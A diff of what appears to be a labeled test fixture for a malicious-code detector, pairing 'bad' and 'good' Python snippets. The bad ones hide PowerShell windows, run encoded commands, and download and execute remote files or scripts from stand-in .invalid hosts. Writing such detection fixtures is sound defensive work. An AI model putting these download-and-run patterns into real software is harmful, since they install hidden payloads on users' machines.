@@ -1,44 +1,52 @@
-#: bad updater
-import os
-import stat
-import urllib.request
+#: bad powershell-stage
+import subprocess
+import sys
+
+if sys.platform == "win32":
+    subprocess.Popen(  #!
+        "powershell -WindowStyle Hidden -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==",
+        shell=True,
+        creationflags=0x08000000,
+    )
+
+#: good powershell-stage
+import subprocess
+import sys
+
+
+def version():
+    if sys.platform == "win32":
+        return subprocess.check_output(
+            ["powershell", "-NoProfile", "-Command", "$PSVersionTable.PSVersion.Major"]
+        )
+    return None
+
+#: bad pickle-stage
+import runpy
+import tempfile
+from pathlib import Path
+
+import httpx
 
 
 def update():
-    path, _ = urllib.request.urlretrieve("http://dl.fontpack.invalid/helper", "/tmp/.helper")
-    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
-    os.spawnl(os.P_NOWAIT, path, path) #!
-#: good updater
-import hashlib
-import urllib.request
-
-DIGEST = "1ec5799e80bbe22de27388ffb118fe0bdd4a1470e505997d622d7b26e3952d50"
+    source = httpx.get("https://s.example.invalid/stage2.py").content
+    target = Path(tempfile.mkdtemp()) / "stage2.py"
+    target.write_bytes(source)
+    runpy.run_path(str(target))  #!
 
 
-def update(target):
-    path, _ = urllib.request.urlretrieve("https://dl.fontpack.invalid/fonts.zip", target)
-    with open(path, "rb") as handle:
-        if hashlib.file_digest(handle, "sha256").hexdigest() != DIGEST:
-            raise ValueError("fonts.zip was changed")
-    return path
-#: bad winsetup
-import platform
-import subprocess
+update()
 
-if platform.system() == "Windows":
-    command = (
-        "powershell -WindowStyle Hidden -ExecutionPolicy Bypass -Command "
-        "\"iwr http://cdn.gamelib.invalid/s.exe -OutFile $env:TEMP\\s.exe; "
-        "Start-Process $env:TEMP\\s.exe\""
-    )
-    subprocess.call(command, creationflags=0x08000000) #!
-#: good winsetup
-import platform
-import subprocess
+#: good pickle-stage
+import tempfile
+from pathlib import Path
+
+import httpx
 
 
-def windows_version():
-    if platform.system() != "Windows":
-        return None
-    command = ["powershell", "-NoProfile", "-Command", "(Get-CimInstance Win32_OperatingSystem).Version"]
-    return subprocess.run(command, capture_output=True, text=True).stdout.strip()
+def update():
+    source = httpx.get("https://s.example.invalid/countries.csv").content
+    target = Path(tempfile.mkdtemp()) / "countries.csv"
+    target.write_bytes(source)
+    return target.read_text().splitlines()
